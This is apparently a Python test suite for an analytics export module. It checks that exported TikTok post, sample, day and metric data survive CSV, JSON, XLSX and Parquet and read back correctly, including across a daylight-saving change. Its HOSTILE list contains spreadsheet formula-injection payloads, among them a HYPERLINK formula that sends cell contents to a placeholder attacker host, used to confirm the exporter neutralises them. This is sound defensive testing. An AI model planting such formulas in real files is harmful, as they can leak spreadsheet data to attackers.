"""What is exported is what is kept: every cell of every format, opened by other programs than ours."""

import csv
import io
import json
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest

from api.accounts.models import Account
from api.analytics.export_request import ExportFormat, ExportRequest
from api.analytics.export_sheets import SHEETS, ExportWhat, Kind
from api.analytics.export_writers import write_export
from api.analytics.models import Video, VideoSnapshot, VideoState
from api.analytics.tests.makers import add_tracked, add_video, hours, tell, tell_account, utc
from conftest import Caller

pytestmark = pytest.mark.django_db

BERLIN = ZoneInfo("Europe/Berlin")
START = utc(2026, 10, 24, 9)  # the clocks of Berlin are put back in the night after it
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
]
PLAIN = [
    'Rabbit "Hopp", says:\nhello; <b>&amp;</b> 兎 🐇 \x0b\x01',
    "",
    " spaces at both ends ",
    "_x0041_ stays",
    "\\N",
]


def fill(alice: Caller) -> Account:
    """Give Alice an account whose videos say all that a caption may say."""
    account = add_tracked(alice, zone="Europe/Berlin")
    for number, caption in enumerate([*HOSTILE, *PLAIN]):
        video = add_video(account, at=START + hours(number), caption=caption)
        tell(video, *[(START + hours(number + age), [age * 100, age * 9, age, number]) for age in (1, 3, 6, 24, 30)])
    add_video(account, at=START + hours(50), caption="never looked at #Rabbit #兎")
    tell_account(
        account, (START, [50, 7, 900, 8]), (START + hours(20), [70, 7, 950, 9]), (START + hours(40), [65, 7, 960, 9])
    )
    return account


def export(account: Account, what: ExportWhat, file_format: ExportFormat, **more: Any) -> bytes:
    out = io.BytesIO()
    request = ExportRequest(account.workspace_id, what, file_format, "Europe/Berlin", **more)
    write_export(request, out, on_rows=lambda _: None)
    return out.getvalue()


def counters_of(one: VideoSnapshot) -> tuple[int, int, int, int]:
    return one.views, one.likes, one.comments, one.shares


def from_csv(content: bytes, what: ExportWhat) -> list[dict[str, Any]]:
    rows = list(csv.DictReader(io.StringIO(content.decode(), newline="")))
    return [{column.name: _read(row[column.name], column.kind) for column in SHEETS[what].columns} for row in rows]


def _read(cell: str, kind: Kind) -> Any:
    if kind in (Kind.NAME, Kind.TEXT, Kind.TEXTS):
        return cell
    if not cell:
        return None
    readers: dict[Kind, Callable[[str], Any]] = {
        Kind.COUNT: int,
        Kind.NUMBER: float,
        Kind.DAY: date.fromisoformat,
        Kind.INSTANT: datetime.fromisoformat,
    }
    return readers[kind](cell)


def from_json(content: bytes, what: ExportWhat) -> list[dict[str, Any]]:
    rows = json.loads(content)
    for row in rows:
        for column in SHEETS[what].columns:
            if column.kind in (Kind.DAY, Kind.INSTANT) and row[column.name]:
                row[column.name] = _read(row[column.name], column.kind)
    return list(rows)


def from_workbook(content: bytes, what: ExportWhat) -> list[dict[str, Any]]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    found = []
    for sheet in book.worksheets:
        [names, *rows] = sheet.iter_rows()
        found += [{name.value: cell for name, cell in zip(names, row, strict=True)} for row in rows]
    return [{column.name: _of_excel(row[column.name], column.kind) for column in SHEETS[what].columns} for row in found]


def _of_excel(cell: Any, kind: Kind) -> Any:
    """Return a cell's value; an instant with the distance from UTC that its format shows."""
    if kind == Kind.DAY and cell.value:
        return cell.value.date()
    if kind == Kind.INSTANT and cell.value:
        assert cell.is_date
        return datetime.strptime(
            f"{cell.value.isoformat()}{cell.number_format.split()[-1][:-1]}", "%Y-%m-%dT%H:%M:%S%z"
        )
    assert cell.data_type != "f"
    return cell.value or "" if kind in (Kind.NAME, Kind.TEXT, Kind.TEXTS) else cell.value


def from_parquet(content: bytes, what: ExportWhat) -> list[dict[str, Any]]:
    return list(pq.read_table(io.BytesIO(content)).to_pylist())


OPENED = {
    ExportFormat.CSV: from_csv,
    ExportFormat.JSON: from_json,
    ExportFormat.XLSX: from_workbook,
    ExportFormat.PARQUET: from_parquet,
}
every_format = pytest.mark.parametrize("file_format", ExportFormat)


@every_format
class TestEveryCell:
    def test_of_samples_is_a_sample(self, alice: Caller, file_format: ExportFormat) -> None:
        account = fill(alice)

        rows = OPENED[file_format](export(account, ExportWhat.SAMPLES, file_format), ExportWhat.SAMPLES)

        ids = dict(Video.objects.values_list("pk", "tiktok_id"))
        kept = {
            (str(account.pk), account.username, ids[one.video_id], one.captured_at, *counters_of(one), "believed")
            for one in VideoSnapshot.objects.all()
        }
        for row in rows:
            row["captured_at"] = row["captured_at"].astimezone(UTC)
        assert {tuple(row.values()) for row in rows} == kept
        assert len(rows) == len(kept) == 60

    def test_of_posts_is_a_post(self, alice: Caller, file_format: ExportFormat) -> None:
        account = fill(alice)

        rows = OPENED[file_format](export(account, ExportWhat.POSTS, file_format), ExportWhat.POSTS)

        assert len(rows) == 13
        for row, video in zip(rows, Video.objects.order_by("published_at"), strict=True):
            state = VideoState.objects.get(pk=video.pk)
            assert row["tiktok_id"] == video.tiktok_id
            assert len(row["tiktok_id"]) == 19
            assert row["published_at"] == video.published_at
            assert row["measured_at"] == state.at
            assert (row["views"], row["likes"], row["shares"]) == (state.views, state.likes, state.shares)
            assert [row[f"views_{age}"] for age in ("1h", "3h", "24h", "3d", "30d")] == [
                (state.views_at or [None] * 16)[place] for place in (0, 2, 8, 11, 15)
            ]
            assert row["publication_id"] in ("", None)
            assert row["engagement_rate"] == (
                pytest.approx((state.likes + state.comments + state.shares) / state.views, abs=1e-4)
                if state.views
                else None
            )

    def test_of_days_is_a_day_in_the_accounts_zone(self, alice: Caller, file_format: ExportFormat) -> None:
        account = fill(alice)

        rows = OPENED[file_format](export(account, ExportWhat.DAYS, file_format), ExportWhat.DAYS)

        assert [row["day"] for row in rows] == [date(2026, 10, day) for day in (24, 25, 26)]
        assert {row["time_zone"] for row in rows} == {"Europe/Berlin"}
        assert sum(row["views_gain"] for row in rows) == 12 * 3000
        assert [row["followers_end"] for row in rows] == [63, 66, 65]
        assert [row["followers_gain"] - row["followers_loss"] for row in rows] == [13, 3, -1]
        # It was first looked at at eleven, through a day of 25 hours, and until two.
        assert [row["account_coverage"] for row in rows] == [round(13 / 24, 4), 1, round(2 / 24, 4)]

    def test_of_metrics_is_the_sum_of_the_days(self, alice: Caller, file_format: ExportFormat) -> None:
        account = fill(alice)

        [row] = OPENED[file_format](export(account, ExportWhat.METRICS, file_format), ExportWhat.METRICS)

        assert (row["first_day"], row["last_day"], row["days"]) == (date(2026, 10, 24), date(2026, 10, 26), 3)
        assert (row["views_gain"], row["views_net"], row["posts"]) == (36_000, 36_000, 13)
        assert (row["followers_end"], row["followers_net"]) == (65, 15)
        assert row["views_coverage"] == 1


class TestText:
    def test_of_a_formula_is_harmless_where_a_spreadsheet_opens_it(self, alice: Caller) -> None:
        account = fill(alice)

        for file_format in (ExportFormat.CSV, ExportFormat.XLSX):
            rows = OPENED[file_format](export(account, ExportWhat.POSTS, file_format), ExportWhat.POSTS)
            captions = [row["caption"] for row in rows]
            assert [caption[:1] for caption in captions[: len(HOSTILE)]] == ["'"] * len(HOSTILE)
            assert captions[0] == f"'{HOSTILE[0]}"

    def test_is_exact_where_programs_read_it(self, alice: Caller) -> None:
        account = fill(alice)

        for file_format in (ExportFormat.JSON, ExportFormat.PARQUET):
            rows = OPENED[file_format](export(account, ExportWhat.POSTS, file_format), ExportWhat.POSTS)
            assert [row["caption"] for row in rows[:-1]] == [*HOSTILE, *PLAIN]
            assert rows[-1]["hashtags"] == ["rabbit", "兎"]

    def test_keeps_its_lines_quotes_signs_and_emoji(self, alice: Caller) -> None:
        account = fill(alice)

        in_csv, in_book = (
            [row["caption"] for row in OPENED[kind](export(account, ExportWhat.POSTS, kind), ExportWhat.POSTS)][
                len(HOSTILE) : -1
            ]
            for kind in (ExportFormat.CSV, ExportFormat.XLSX)
        )

        assert in_csv == PLAIN
        # A workbook has no place for control characters, and openpyxl shows Excel's escape as it is written.
        assert in_book == [PLAIN[0].replace("\x0b\x01", ""), "", PLAIN[2], "_x005F_x0041_ stays", "\\N"]


class TestOtherPrograms:
    def test_pandas_reads_ids_as_text(self, alice: Caller) -> None:
        account = fill(alice)
        ids = list(Video.objects.order_by("published_at").values_list("tiktok_id", flat=True))

        text: dict[str, Any] = {"dtype": {"tiktok_id": str}}  # or pandas makes whole numbers of them: exact ones
        book = pd.read_excel(io.BytesIO(export(account, ExportWhat.POSTS, ExportFormat.XLSX)), **text)
        columns = pd.read_parquet(io.BytesIO(export(account, ExportWhat.POSTS, ExportFormat.PARQUET)))
        lines = pd.read_csv(io.BytesIO(export(account, ExportWhat.POSTS, ExportFormat.CSV)), **text)

        for frame in (book, columns, lines):
            assert list(frame["tiktok_id"]) == ids
        assert str(columns["published_at"].dtype).endswith("Europe/Berlin]")

    def test_a_csv_says_by_its_quotes_that_ids_are_text(self, alice: Caller) -> None:
        account = fill(alice)

        [names, first] = export(account, ExportWhat.SAMPLES, ExportFormat.CSV).decode().splitlines()[:2]

        row = dict(zip(names.split(","), first.split(","), strict=True))
        assert row["tiktok_id"] == f'"{Video.objects.order_by("pk")[0].tiktok_id}"'
        assert row["captured_at"] == "2026-10-24T12:00:00+02:00"


class TestClocks:
    def test_tells_the_doubled_hour_apart(self, alice: Caller) -> None:
        account = add_tracked(alice, zone="Europe/Berlin")
        video = add_video(account, at=START)
        twice = [utc(2026, 10, 25, 0, 30), utc(2026, 10, 25, 1, 30)]  # half past two, and half past two again
        tell(video, (twice[0], [10]), (twice[1], [20]))

        for file_format in ExportFormat:
            rows = OPENED[file_format](export(account, ExportWhat.SAMPLES, file_format), ExportWhat.SAMPLES)
            assert [row["captured_at"].astimezone(UTC) for row in rows] == twice
            assert [row["captured_at"].utcoffset() for row in rows] == [timedelta(hours=2), timedelta(hours=1)]

    def test_takes_days_of_the_asked_zone_for_what_has_instants(self, alice: Caller) -> None:
        account = add_tracked(alice)
        late = add_video(account, at=utc(2026, 10, 24, 22, 30))  # half past midnight in Berlin
        add_video(account, at=utc(2026, 10, 25, 23, 30))

        content = export(
            account, ExportWhat.POSTS, ExportFormat.JSON, since=date(2026, 10, 25), until=date(2026, 10, 25)
        )

        assert [row["tiktok_id"] for row in json.loads(content)] == [late.tiktok_id]


class TestNothing:
    @every_format
    def test_is_a_whole_file_with_its_headings(self, alice: Caller, file_format: ExportFormat) -> None:
        account = add_tracked(alice)

        for what in ExportWhat:
            content = export(account, what, file_format)
            assert OPENED[file_format](content, what) == []
            if file_format != ExportFormat.JSON:
                columns = [column.name for column in SHEETS[what].columns]
                readers: dict[ExportFormat, Callable[[io.BytesIO], Any]] = {
                    ExportFormat.CSV: pd.read_csv,
                    ExportFormat.XLSX: pd.read_excel,
                    ExportFormat.PARQUET: pd.read_parquet,
                }
                assert list(readers[file_format](io.BytesIO(content)).columns) == columns
